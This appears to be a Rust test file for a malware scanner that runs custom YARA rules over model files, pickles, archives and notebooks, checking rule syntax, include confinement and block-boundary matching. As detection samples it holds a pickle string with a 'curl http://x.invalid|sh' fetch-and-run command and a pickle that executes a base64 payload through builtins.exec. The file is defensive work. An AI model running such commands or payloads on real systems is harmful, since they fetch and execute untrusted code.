//! YARA: rules of one's own in the style of public sets, over the right bytes.

use std::collections::BTreeSet;
use std::io::Write as _;
use std::path::Path;
use std::sync::Arc;

use weighin::artifact::GapReason;
use weighin::input::Input;
use weighin::report::FileReport;
use weighin::rules::Severity;
use weighin::{Limits, RuleSet, Scanner};

use crate::policy::zip_of;

/// Bytes that the sweep reads at a time, and again.
const BLOCK: usize = 4 << 20;
const OVERLAP: usize = 64 << 10;

/// The embedded rules and these files.
fn load(files: &[(&str, &str)]) -> Result<RuleSet, String> {
    let dir = tempfile::tempdir().expect("a directory");
    for (name, text) in files {
        write(&dir.path().join(name), text.as_bytes());
    }
    let set = RuleSet::embedded().expect("they load").with_directory(dir.path(), &Limits::default());
    set.map_err(|error| error.to_string())
}

fn write(path: &Path, bytes: &[u8]) {
    std::fs::create_dir_all(path.parent().expect("a folder")).expect("made");
    std::fs::write(path, bytes).expect("written");
}

fn one(text: &str) -> RuleSet {
    load(&[("a.yar", text)]).unwrap_or_else(|error| panic!("{error}"))
}

/// Each YARA rule that fires, and the members to where it does.
fn hits(report: &FileReport) -> BTreeSet<(String, String)> {
    let found = report.findings.iter().filter(|finding| finding.evidence.kind == "yara.match");
    found.map(|finding| (finding.rule.clone(), finding.location.members.join("!"))).collect()
}

fn scan(rules: &RuleSet, name: &str, bytes: &[u8]) -> BTreeSet<(String, String)> {
    hits(&Scanner::new(rules).scan_bytes(name, bytes))
}

fn of(pairs: &[(&str, &str)]) -> BTreeSet<(String, String)> {
    pairs.iter().map(|(rule, members)| ((*rule).to_owned(), (*members).to_owned())).collect()
}

/// Scans a file that is not held in memory.
fn scan_large(rules: &RuleSet, content: &[u8]) -> FileReport {
    let mut file = tempfile::tempfile().expect("a file");
    file.write_all(content).expect("written");
    let mut limits = Limits::default();
    limits.set("memory-bytes", 1000).expect("a limit");
    let input = Input::positioned(Arc::new(file), u64::try_from(content.len()).expect("small"));
    Scanner::new(rules).with_limits(limits).scan_input("model.bin", input)
}

/// Words about rules that were not evaluated.
fn gaps(report: &FileReport) -> Vec<&str> {
    let gaps = report.gaps.iter().filter(|gap| gap.reason == GapReason::NotEvaluated);
    gaps.map(|gap| gap.detail.as_str()).collect()
}

#[test]
fn rules_in_the_style_of_public_sets_run_unchanged() {
    // One folder per style: the collections of one author, the packages put
    // together from many, and the rules of a product.
    let rules = load(&[
        (
            "collection/thor-like.yar",
            r#"
            private rule house_is_program { condition: uint16(0) == 0x5a4d or uint32be(0) == 0x7f454c46 }
            /* Names as scanners give them. */
            rule house_odd_name {
                meta:
                    description = "Detects a program by the name of a picture" // a comment
                    author = "somebody"
                    reference = "https://example.invalid/a"
                    date = "2024-01-01"
                    modified = "2024-02-01"
                    hash1 = "00112233"
                    score = 75
                condition:
                    house_is_program and ( filename matches /^img_[0-9]{1,4}\.jpg$/i or extension == ".jpg" )
                    and not filepath contains "trusted" and filesize < 2000KB
            }
            rule house_strings : tag_a tag_b {
                meta:
                    description = "Detects words"
                    score = 60
                strings:
                    $x1 = "first word" fullword ascii wide nocase
                    $x2 = /sec(ond|und)\s{1,4}w[o0]rd/ fullword
                    $s1 = { 4D 61 ?? 6B [2-8] ( 41 42 | 43 ?4 | 4? 46 47 ) }
                    $s2 = { 01 [4-] 02 ~03 }
                    $fp1 = "do not report"
                condition:
                    ( 1 of ($x*) or all of ($s*) ) and not any of ($fp*)
            }"#,
        ),
        (
            "packages/forge-like.yar",
            r#"
            global rule HOUSE_Gate { meta: quality = 85 condition: filesize > 0 and filesize < 20MB }
            rule HOUSE_Encoded_Feb24 : FILE {
                meta:
                    description = "Detects hidden words"
                    id = "5f0e2a36-0000-5000-8000-000000000000"
                    hash = "aa"
                    hash = "bb"
                    logic_hash = "cc"
                    score = 92
                    quality = 85
                    tags = "FILE"
                strings:
                    $a = "xored words" xor(0x01-0xff)
                    $b = "in base64 form" base64 base64wide
                    $c = "private part" private
                condition:
                    2 of them and for any i in ( 1 .. #c ) : ( uint8(@c[i]) == 0x70 and !c[i] == 12 )
            }
            rule HOUSE_Loops {
                meta: score = 10
                strings:
                    $a1 = "aaa1" $a2 = "aaa2" $b = /b{3}/s
                condition:
                    for all of ($a*) : ( $ in (0..1024) ) and #b == 1 and @b[1] > @a1 and 50% of ($a*)
                    and for any x in (1, 2, 3) : ( x == #a1 + 1 ) and (#a1 << 2) \ 2 == 2 and -1 < #b
                    and with n = #a2 : ( n == 1 ) and defined @a1 and ("ABC" icontains "b")
            }"#,
        ),
        (
            "product/endpoint-like.yar",
            r#"
            rule House_Trojan_Thing_0a1b2c3d {
                meta:
                    author = "a company"
                    id = "0a1b2c3d-0000-4000-8000-000000000000"
                    fingerprint = "00"
                    creation_date = "2024-01-01"
                    threat_name = "House.Trojan.Thing"
                    reference_sample = "00"
                    severity = 100
                    arch_context = "x86"
                    scan_context = "file, memory"
                    license = "none"
                    os = "linux"
                strings:
                    $a1 = "%s/thing/%d" ascii fullword
                    $a2 = { 55 89 E5 83 EC ?? C7 45 F? }
                    $re = /thing\R[\w-]+\-end/
                condition:
                    2 of ($a*) or $re
            }"#,
        ),
    ]);
    let rules = rules.unwrap_or_else(|error| panic!("{error}"));
    for (id, severity) in [
        ("house_odd_name", Severity::High),
        ("house_strings", Severity::Medium),
        ("HOUSE_Encoded_Feb24", Severity::Critical),
        ("HOUSE_Loops", Severity::Low),
        ("House_Trojan_Thing_0a1b2c3d", Severity::Critical),
    ] {
        assert_eq!(rules.rule(id).map(|rule| rule.severity), Some(severity), "{id}");
    }
    assert!(rules.rule("house_is_program").is_none(), "a private rule is a part of others");
    assert_eq!(rules.rule("house_odd_name").map(|rule| rule.references.len()), Some(1));

    let gate = ("HOUSE_Gate", "");
    let scan = |name: &str, bytes: &[u8]| scan(&rules, name, bytes);
    let program = b"MZ\x90\0 and more";
    assert_eq!(scan("x/img_12.jpg", program), of(&[gate, ("house_odd_name", "")]));
    assert_eq!(scan("x/trusted/img_12.jpg", program), of(&[gate]));
    assert_eq!(scan("x/model.bin", program), of(&[gate]));
    let strings = ("house_strings", "");
    assert_eq!(scan("a", b"the FIRST word."), of(&[gate, strings]));
    assert_eq!(scan("a", b"the s\0e\0cund  w0rd."), of(&[gate]));
    assert_eq!(scan("a", b"sound secund  w0rd."), of(&[gate, strings]));
    assert_eq!(scan("a", b"Mask..C4 \x01....\x02.x"), of(&[gate, strings]));
    assert_eq!(scan("a", b"first word, do not report"), of(&[gate]));
    let xored: Vec<u8> = b"xored words".iter().map(|byte| byte ^ 0x21).collect();
    let hidden = [b"aW4gYmFzZTY0IGZvcm0= ", &xored[..], b" private part"].concat();
    assert_eq!(scan("a", &hidden), of(&[gate, ("HOUSE_Encoded_Feb24", "")]));
    assert_eq!(scan("a", b"aaa1 aaa2 bbb"), of(&[gate, ("HOUSE_Loops", "")]));
    assert_eq!(scan("a", b"aaa1 aaa2 bbb bbb"), of(&[gate]));
    let product = b"x %s/thing/%d x\x55\x89\xe5\x83\xec\x10\xc7\x45\xf4";
    assert_eq!(scan("a", product), of(&[gate, ("House_Trojan_Thing_0a1b2c3d", "")]));
    // What the global rule keeps out, it keeps out of its own directory only.
    assert!(scan("a", b"").is_empty());
}

#[test]
fn includes_stay_in_the_directory() {
    let helper = "private rule helper { strings: $a = \"marker\" condition: $a }";
    let user = "// first\ninclude \"./lib/z.yar\"\nrule user { condition: helper }";
    let index = "include \"a.yar\" include \"lib/z.yar\"\ninclude \"lib/../a.yar\"";
    let rules = load(&[("a.yar", user), ("index.yar", index), ("lib/z.yar", helper)]).expect("they load");
    assert_eq!(scan(&rules, "x", b"a marker"), of(&[("user", "")]));
    for (files, wanted) in [
        (
            &[("a.yar", "\n  include \"../../etc/passwd\"\nrule a { condition: true }")][..],
            "a.yar:2:3: `../../etc/passwd` is none of the YARA files in this directory",
        ),
        (&[("a.yar", "include \"/etc/passwd\"\nrule a { condition: true }")], "a.yar:1:1: `/etc/passwd` is none"),
        (
            &[("a.yar", "include \"b.yar\""), ("b.yar", "rule b { condition: true }\ninclude \"a.yar\"")],
            "b.yar:2:1: `a.yar` includes this file in turn",
        ),
        (&[("a.yar", "include \"a.yar\"")], "a.yar:1:1: `a.yar` includes this file in turn"),
    ] {
        let error = load(files).expect_err("it is refused");
        assert!(error.contains(wanted), "{wanted} is not in {error}");
    }
    // Blanking an include out moves nothing.
    let error = load(&[("a.yar", "include \"b.yar\" rule a { condition: $x }"), ("b.yar", "")]).expect_err("wrong");
    assert!(error.contains("a.yar:1:37: unknown pattern `$x`"), "{error}");
}

#[test]
fn what_is_left_out_is_named() {
    let error = load(&[("a.yar", "\nimport \"pe\"\nrule a { condition: pe.is_pe }")]).expect_err("no modules");
    assert!(error.contains("a.yar:2:1: unknown module `pe`; weighin is built without"), "{error}");
    let error = load(&[("a.yar", "rule a {\n condition:\n  filetype == \"EXE\" }")]).expect_err("no such variable");
    assert!(error.contains("a.yar:3:3: unknown identifier `filetype`"), "{error}");
    assert!(error.contains("`filename`, `filepath` and `extension`"), "{error}");
    let dir = tempfile::tempdir().expect("a directory");
    std::fs::write(dir.path().join("a.yar"), b"// ok\n// caf\xe9\n").expect("written");
    let error = RuleSet::embedded().expect("loads").with_directory(dir.path(), &Limits::default()).expect_err("bytes");
    assert!(error.to_string().contains("a.yar:2:7: not UTF-8"), "{error}");
    // Unbalanced brackets in strings nest nothing, however many there are.
    let rule =
        |n: usize| format!("rule r{n} {{ strings: $a = \"eval((((\" $b = /x\\(\\(\\(/ condition: any of them }}\n");
    assert!(load(&[("a.yar", &(0..300).map(rule).collect::<String>())]).is_ok());
}

#[test]
fn rules_of_different_origin_are_told_apart() {
    let rules = one("rule shell_download_and_run { strings: $a = \"marker\" condition: $a }");
    assert_eq!(scan(&rules, "x.pkl", b"\x80\x02X\x06\0\0\0marker."), of(&[("shell_download_and_run", "")]));
    let shell = b"\x80\x02X\x17\0\0\0curl http://x.invalid|sh.";
    assert_eq!(scan(&rules, "x.pkl", shell), of(&[("YAR001", "")]));
    // A global rule holds for the directory that it is in, and nowhere else.
    let rules = one("global rule never { condition: false } rule marked { strings: $a = \"marker\" condition: $a }");
    assert_eq!(scan(&rules, "x.pkl", b"\x80\x02X\x06\0\0\0marker."), of(&[]));
    assert_eq!(scan(&rules, "x.pkl", shell), of(&[("YAR001", "")]));
    // An id is used once, over all directories.
    let dir = tempfile::tempdir().expect("a directory");
    write(&dir.path().join("b.yar"), b"\n rule marked { condition: true }");
    let twice = rules.with_directory(dir.path(), &Limits::default()).expect_err("it is refused").to_string();
    assert!(twice.contains("b.yar:2:7: the id marked is used twice"), "{twice}");
}

#[test]
fn matches_across_the_edge_of_a_block_are_found_up_to_the_overlap() {
    let jump = OVERLAP - 4;
    let rules = one(&format!(
        "rule short {{ strings: $a = \"needle\" condition: #a == 4 }}\n\
         rule long {{ strings: $a = {{ 3C 41 [0-{jump}] 42 3E }} condition: $a }}\n\
         rule expression {{ strings: $a = /<begin>[a-z]{{3000}}<end>/ condition: $a }}\n"
    ));
    // The first block has an overlap's worth more than the others.
    let edge = BLOCK + OVERLAP;
    for before_edge in [1, 2, OVERLAP / 2, OVERLAP - 1] {
        let mut content = vec![b'.'; edge + 3 * BLOCK];
        let mut put = |at: usize, bytes: &[u8]| content[at..at + bytes.len()].copy_from_slice(bytes);
        // Before the edge, within the overlap, across the edge, and behind.
        for at in [10, edge - 20_000, edge - before_edge.min(5), edge + BLOCK / 2] {
            put(at, b"needle");
        }
        let long = edge - before_edge + BLOCK;
        put(long, b"<A");
        put(long + 2 + jump, b"B>");
        let expression = [b"<begin>", &[b'x'; 3000][..], b"<end>"].concat();
        put(edge + 2 * BLOCK - before_edge.min(3000), &expression);
        let report = scan_large(&rules, &content);
        assert_eq!(hits(&report), of(&[("short", ""), ("long", ""), ("expression", "")]), "{before_edge}");
        assert!(gaps(&report).is_empty());
        let found = report.findings.iter().find(|finding| finding.rule == "long").expect("found");
        assert_eq!(found.location.offset, u64::try_from(long).expect("small"), "offsets are exact");
    }
}

#[test]
fn a_rule_that_blocks_do_not_decide_is_reported_as_not_evaluated() {
    let rules = one(r#"
        private rule large { condition: filesize > 5000 }
        rule by_size { strings: $a = "marker" condition: $a and filesize > 100 }
        rule by_start { strings: $a = "marker" condition: $a and uint32(0) == 0x2e2e2e2e }
        rule by_other { strings: $a = "marker" condition: $a and large }
        rule by_offset { strings: $a = "marker" condition: for any i in (1..#a) : (uint8(@a[i] + 6) == 0x2e) }
        rule too_small { strings: $a = "marker" condition: $a and filesize < 100 }
        rule other_kind { strings: $a = "marker" condition: uint16(0) == 0x5a4d and $a }
        rule either { strings: $a = "marker" condition: $a or filesize == 7 }
        rule plain { strings: $a = "marker" condition: #a == 1 and @a > 100 }"#);
    let mut content = vec![b'.'; 6000];
    content[5000..5006].copy_from_slice(b"marker");
    let whole = Scanner::new(&rules).scan_bytes("model.bin", &content);
    let all = ["by_size", "by_start", "by_other", "by_offset", "either", "plain"].map(|rule| (rule, ""));
    assert_eq!((hits(&whole), gaps(&whole)), (of(&all), Vec::new()));
    let blocks = scan_large(&rules, &content);
    assert_eq!(hits(&blocks), of(&[("either", ""), ("plain", "")]));
    let said = gaps(&blocks);
    assert_eq!(said.len(), 1, "{said:?}");
    assert!(
        said[0].contains("by_offset, by_other, by_size, by_start. They use filesize, uint32(), uint8()"),
        "{said:?}"
    );
    assert!(said[0].contains("`memory-bytes`"), "{said:?}");

    // With all that can be known known, nothing is left to say.
    let public =
        one("rule small { strings: $a = \"marker\" condition: uint16(0) == 0x5a4d and filesize < 1KB and $a }");
    assert!(gaps(&scan_large(&public, &content)).is_empty());
    // The embedded rules ask for nothing of the kind.
    assert!(gaps(&scan_large(crate::check::rules(), &content)).is_empty());
}

#[test]
fn a_rule_that_never_ends_is_stopped_by_the_clock() {
    let rules = one(
        "rule endless { condition: for all i in (0..1000000000) : ( for all j in (0..1000000000) : ( i + j >= 0 ) ) }",
    );
    let mut limits = Limits::default();
    limits.set("seconds", 1).expect("a limit");
    let report = Scanner::new(&rules).with_limits(limits).scan_bytes("x", b"abc");
    assert!(report.gaps.iter().any(|gap| gap.detail.contains("limit `seconds`")), "{:?}", report.gaps);
}

fn deflated(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(bytes).expect("packed");
    encoder.finish().expect("packed")
}

#[test]
fn members_payloads_templates_code_and_constants_are_scanned() {
    let rules = one("rule marked { strings: $a = \"marker\" condition: $a }");
    let b64 = "cHJpbnQoJ21hcmtlcicp"; // print('marker')
    for (what, name, content, place) in [
        ("a string of protocol 4", "a.pkl", b"\x80\x04\x8c\x08a marker.".to_vec(), ""),
        ("a string of protocol 2", "a.pkl", b"\x80\x02X\x08\0\0\0a marker.".to_vec(), ""),
        ("a string of protocol 0", "a.pkl", b"(lp0\nS'a marker'\np1\na.".to_vec(), ""),
        (
            "a payload that the pickle decodes and runs",
            "a.pkl",
            format!("cbuiltins\nexec\n(cbase64\nb64decode\n(S'{b64}'\ntRtR.").into_bytes(),
            "*",
        ),
        ("a packed member", "a.json.gz", deflated(b"{\"a\": \"marker\"}"), "*"),
        ("a stored member", "a.zip", zip_of("b.json", b"{\"a\": \"marker\"}"), "b.json"),
        ("a member of a packed archive", "a.zip.gz", deflated(&zip_of("b.json", b"{\"a\": \"marker\"}")), "*"),
        (
            "a template, whose escapes are JSON's",
            "tokenizer_config.json",
            b"{\"tokenizer_class\": \"T\", \"chat_template\": \"{{ 'm\\u0061rker' }}\"}".to_vec(),
            "*",
        ),
        ("Python", "modeling_a.py", b"def f():\n    return 'marker'\n".to_vec(), ""),
        (
            "the code of a notebook, whose escapes are JSON's",
            "a.ipynb",
            b"{\"cells\": [{\"cell_type\": \"code\", \"metadata\": {}, \"outputs\": [], \"execution_count\": null, \
              \"source\": [\"x = 'm\\u0061rker'\\n\"]}], \"metadata\": {}, \"nbformat\": 4, \"nbformat_minor\": 5}"
                .to_vec(),
            "*",
        ),
    ] {
        let found = scan(&rules, name, &content);
        let fits = match place {
            "*" => found.len() == 1 && found.iter().all(|(rule, members)| rule == "marked" && !members.is_empty()),
            _ => found == of(&[("marked", place)]),
        };
        assert!(fits, "{what}: {found:?}");
    }
}

/// A rule of one's own sees a stored member as it sees a packed one; and what
/// is found in a member is told of the member.
#[test]
fn a_stored_member_is_scanned_by_itself() {
    let rules = one(r#"
        rule at_start { strings: $a = "{\"a\"" condition: $a at 0 and filesize < 30 }
        rule by_name { condition: filename == "b.json" and extension == ".json" }
        rule any_json { strings: $a = "marker" condition: $a }"#);
    let json = b"{\"a\": \"marker\"}";
    let found = scan(&rules, "a.zip", &zip_of("c/b.json", json));
    assert_eq!(found, of(&[("at_start", "c/b.json"), ("by_name", "c/b.json"), ("any_json", "c/b.json")]));
    let report = Scanner::new(&rules).scan_bytes("a.zip", &zip_of("c/b.json", json));
    let marked = report.findings.iter().find(|finding| finding.rule == "any_json").expect("found");
    assert_eq!((marked.location.offset, marked.occurrences), (7, 1));
    // An embedded rule for pickles holds for a pickle in an archive too.
    let pickle = b"\x80\x02X\x17\0\0\0curl http://x.invalid|sh.";
    let found = scan(crate::check::rules(), "a.zip", &zip_of("data.pkl", pickle));
    assert_eq!(found, of(&[("YAR001", "data.pkl")]));
}
